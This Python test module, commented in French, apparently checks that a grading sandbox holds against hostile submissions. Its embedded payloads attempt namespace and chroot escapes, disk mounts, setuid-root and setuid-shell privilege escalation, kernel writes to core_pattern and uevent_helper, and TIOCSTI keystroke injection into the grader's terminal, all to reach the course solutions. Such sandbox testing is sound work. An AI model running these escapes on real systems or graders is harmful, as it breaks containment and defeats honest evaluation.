"""Sortir de la boîte : espaces de noms, racine, privilèges, terminal."""

from .base import cheating
from .hostile import attack


@attack("évasion", quick=True)
def makes_its_own_namespaces():
    """Crée des espaces de noms par unshare, monte /proc et le disque, entre par setns dans ceux du processus 1."""
    return cheating("""
    import ctypes, glob, subprocess

    danger()
    libc = ctypes.CDLL(None, use_errno=True)

    def look(how):
        if os.path.exists(REPOSITORY + "/pyproject.toml") or os.path.exists(COURSE + "/solutions"):
            trophy(how)

    if libc.unshare(0x10000000) == 0:
        for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
            try:
                open(f"/proc/self/{name}", "w").write(text)
            except OSError:
                pass
    libc.unshare(0x00020000 | 0x20000000)
    for source, target, kind in ((b"proc", b"/proc", b"proc"), (b"/dev/vda", b"/mnt", b"ext4"), (b"/", b"/tmp", None)):
        libc.mount(source, target, kind, 4096 if kind is None else 0, None)
        look(target)
    libc.umount2(b"/", 2)
    look("umount")
    for path in glob.glob("/proc/1/ns/*") + glob.glob("/proc/*/ns/*"):
        try:
            libc.setns(os.open(path, os.O_RDONLY), 0)
        except OSError:
            pass
        look(path)
    if os.path.exists("/usr/bin/bwrap"):
        subprocess.run(["bwrap", "--bind", "/", "/", "true"], capture_output=True)
    """)


@attack("évasion")
def climbs_out_of_its_root():
    """Sort par chroot et pivot_root, par les descripteurs hérités, par /proc/1/root, par un dossier ouvert."""
    return cheating("""
    import ctypes

    danger()

    def look(how):
        for path in (REPOSITORY + "/pyproject.toml", COURSE + "/solutions", "." + REPOSITORY + "/pyproject.toml"):
            if os.path.exists(path):
                trophy(how, path)

    for descriptor in range(100):
        try:
            os.stat(REPOSITORY + "/pyproject.toml", dir_fd=descriptor)
            trophy(descriptor)
        except (OSError, ValueError):
            pass
    start = os.open("/", os.O_RDONLY)
    try:
        os.makedirs("/tmp/racine", exist_ok=True)
        os.chroot("/tmp/racine")
        os.fchdir(start)
        for _ in range(50):
            os.chdir("..")
        look("chroot")
        os.chroot(".")
    except OSError:
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(155, b".", b".")
    libc.open_by_handle_at(3, b"\\0" * 64, 0)
    look("pivot_root")
    """)


@attack("évasion")
def raises_its_privileges():
    """Tente setuid(0), un fichier setuid, des limites relevées, une priorité temps réel, un périphérique, un module."""
    return cheating("""
    import ctypes, resource, shutil, stat

    danger()
    attempts = {
        "setuid": lambda: (os.setgroups([0]), os.setgid(0), os.setuid(0)),
        "limites": lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)),
        "priorité": lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
        "temps réel": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
        "périphérique": lambda: os.open(os.mknod("/tmp/d", stat.S_IFBLK | 0o666, os.makedev(254, 0)) or "/tmp/d", 0),
        "disque": lambda: os.open("/dev/vda", os.O_RDONLY),
        "mémoire": lambda: os.open("/dev/mem", os.O_RDONLY),
        "noyau": lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/false"),
        "oom": lambda: open("/proc/sysrq-trigger", "w").write("h"),
        "hôte": lambda: open("/sys/kernel/uevent_helper", "w").write("/bin/false"),
    }
    for name, attempt in attempts.items():
        try:
            attempt()
        except (OSError, ValueError):
            continue
        if name not in ("limites", "setuid"):
            trophy(name)
    if resource.getrlimit(resource.RLIMIT_AS)[1] == resource.RLIM_INFINITY:
        trophy("limites")
    try:
        shutil.copy("/bin/sh", "/tmp/sh")
        os.chmod("/tmp/sh", 0o6755)
    except OSError:
        pass
    ctypes.CDLL(None).syscall(175, b"", 0, b"")
    """)


@attack("évasion")
def types_into_the_terminal():
    """Pousse des commandes dans le terminal du correcteur par TIOCSTI, et ouvre /dev/tty et /dev/pts."""
    return cheating("""
    import fcntl, glob

    danger()
    for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty?")]:
        try:
            terminal = os.open(path, os.O_RDWR)
            fcntl.ioctl(terminal, 0x5412, b"#")
            trophy(path)
        except OSError:
            pass
    for descriptor in range(10):
        try:
            fcntl.ioctl(descriptor, 0x5412, b"#")
            trophy(descriptor)
        except OSError:
            pass
    """)
